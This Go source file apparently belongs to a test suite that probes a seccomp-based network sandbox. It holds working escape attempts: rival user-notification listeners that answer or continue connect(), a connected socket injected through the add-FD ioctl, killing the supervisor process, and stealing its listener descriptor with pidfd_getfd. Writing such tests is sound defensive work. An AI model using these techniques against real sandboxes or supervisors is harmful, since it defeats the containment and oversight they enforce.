package escapes

import (
	"encoding/binary"
	"fmt"
	"os"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// listenerAttempts answer their own calls, as a supervisor does.
func listenerAttempts() []Attempt {
	attempts := []Attempt{
		{Name: "filter/listener-spoof", Does: "have an own listener answer connect after it connected the socket itself", Try: func(g *Ground) error {
			return g.behindListener(filterFlagNewListener, unix.SYS_CONNECT, func(l *rivalListener) error {
				name := sockaddr(g.Denied.AddrPort4())
				fd := binary.NativeEndian.Uint64(l.m[notifArgs:])
				if _, err := call(unix.SYS_CONNECT, uintptr(fd), l.m.put(512, name), uintptr(len(name))); err != nil {
					return err
				}
				return l.respond(0)
			})
		}},
		{Name: "filter/listener-socket", Does: "have an own listener answer socket with a connected one", Try: func(g *Ground) error {
			return g.behindListener(filterFlagNewListener, unix.SYS_SOCKET, func(l *rivalListener) error { return l.giveConnected(g) })
		}},
		{Name: "filter/listener-after-kill", Does: "kill the supervisor, and answer in its place", Ends: true, Try: func(g *Ground) error {
			if _, supervisor := supervisorOf(); supervisor > 1 {
				if err := unix.Kill(supervisor, unix.SIGKILL); err != nil {
					return err
				}
				time.Sleep(20 * time.Millisecond)
			}
			return g.behindListener(filterFlagNewListener, unix.SYS_CONNECT, (*rivalListener).proceed)
		}},
		{Name: "filter/steal-listener", Does: "take the supervisor's listener and answer in its place", Try: stealListener},
	}
	for _, one := range []struct {
		name, does string
		flags      uintptr
	}{
		{"filter/listener", "let an own listener continue connect", filterFlagNewListener},
		{"filter/listener-killable", "the same with WAIT_KILLABLE_RECV", filterFlagNewListener | filterFlagWaitKillable},
		{"filter/listener-log", "the same with LOG and SPEC_ALLOW", filterFlagNewListener | filterFlagLog | filterFlagSpecAllow},
		{"filter/listener-high-bits", "the same with bits that the kernel does not read", 1<<32 | 1<<63 | filterFlagNewListener},
	} {
		attempts = append(attempts, Attempt{Name: one.name, Does: one.does, Try: func(g *Ground) error {
			return g.behindListener(one.flags, unix.SYS_CONNECT, (*rivalListener).proceed)
		}})
	}
	return attempts
}

// struct seccomp_notif and seccomp_notif_resp, and the ioctls of
// seccomp_unotify(2).
const (
	notificationSize, notifID, notifArgs = 80, 0, 32
	respAt                               = 128
	respFlagContinue                     = 1
	addFDSend                            = 1 << 1

	ioctlNotifRecv  = 0xc0502100
	ioctlNotifSend  = 0xc0182101
	ioctlNotifAddFD = 0x40182103
)

// rivalListener is a listener of the attempt's.
type rivalListener struct {
	fd uintptr
	m  memory
}

// receive waits for a notification.
func (l *rivalListener) receive() error {
	clear(l.m[:notificationSize])
	_, err := call(unix.SYS_IOCTL, l.fd, ioctlNotifRecv, l.m.at(0))
	return err
}

// answer sends the flags or the value.
func (l *rivalListener) answer(value uint64, flags uint32) error {
	copy(l.m[respAt:], l.m[notifID:notifID+8])
	l.m.word(respAt+8, value)
	l.m.half(respAt+16, 0)
	l.m.half(respAt+20, flags)
	_, err := call(unix.SYS_IOCTL, l.fd, ioctlNotifSend, l.m.at(respAt))
	return err
}

func (l *rivalListener) respond(value uint64) error { return l.answer(value, 0) }

func (l *rivalListener) proceed() error { return l.answer(0, respFlagContinue) }

// giveConnected puts a socket that is connected into the caller, and answers
// with its number.
func (l *rivalListener) giveConnected(g *Ground) error {
	s, err := newInet(unix.AF_INET, unix.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	if err := s.connect(g.Denied.AddrPort4()); err != nil {
		return err
	}
	copy(l.m[respAt:], l.m[notifID:notifID+8])
	l.m.half(respAt+8, addFDSend)
	l.m.half(respAt+12, uint32(s.fd))
	l.m.word(respAt+16, 0)
	_, err = call(unix.SYS_IOCTL, l.fd, ioctlNotifAddFD, l.m.at(respAt))
	return err
}

// behindListener connects on a thread whose call is answered by another of the
// attempt's, which the filter does not hold. Without a listener it connects
// all the same.
func (g *Ground) behindListener(flags uintptr, number uint32, answer func(*rivalListener) error) error {
	return onThread(func() error {
		m, err := newMemory(4096)
		if err != nil {
			return err
		}
		if err := unix.Prctl(unix.PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0); err != nil {
			return err
		}
		fd, refused := call(unix.SYS_SECCOMP, setModeFilter|flags&(1<<63), flags, m.filterFor(1024, number, retUserNotif))
		if refused == nil {
			l := &rivalListener{fd, m}
			go func() {
				for l.receive() == nil && answer(l) == nil {
				}
				unix.Close(int(fd)) // what is not answered fails
			}()
		}
		s, err := newInet(unix.AF_INET, unix.SOCK_STREAM, 0)
		if err != nil {
			return err
		}
		err = s.connect(g.Denied.AddrPort4())
		if err == nil || number == unix.SYS_SOCKET {
			err = g.writeOn(s)
		}
		if refused != nil {
			return fmt.Errorf("%w (install listener: %w)", err, refused)
		}
		return err
	})
}

// stealListener looks for a listener among the supervisor's and the launcher's
// descriptors, and answers with it what the attempt's own connect asks.
func stealListener(g *Ground) error {
	launcher, supervisor := supervisorOf()
	for _, pid := range []int{launcher, supervisor} {
		if pid <= 1 {
			continue
		}
		p, err := unix.PidfdOpen(pid, 0)
		if err != nil {
			return err
		}
		for _, fd := range descriptorsOf(pid) {
			taken, err := unix.PidfdGetfd(p, fd, 0)
			if err != nil {
				continue
			}
			link, _ := os.Readlink("/proc/self/fd/" + decimal(taken))
			if m, err := newMemory(4096); err == nil && strings.Contains(link, "seccomp") {
				l := &rivalListener{uintptr(taken), m}
				go func() {
					for l.receive() == nil {
						_ = l.proceed()
					}
				}()
			}
		}
	}
	return connectAndWrite(g, g.Denied.AddrPort4())
}
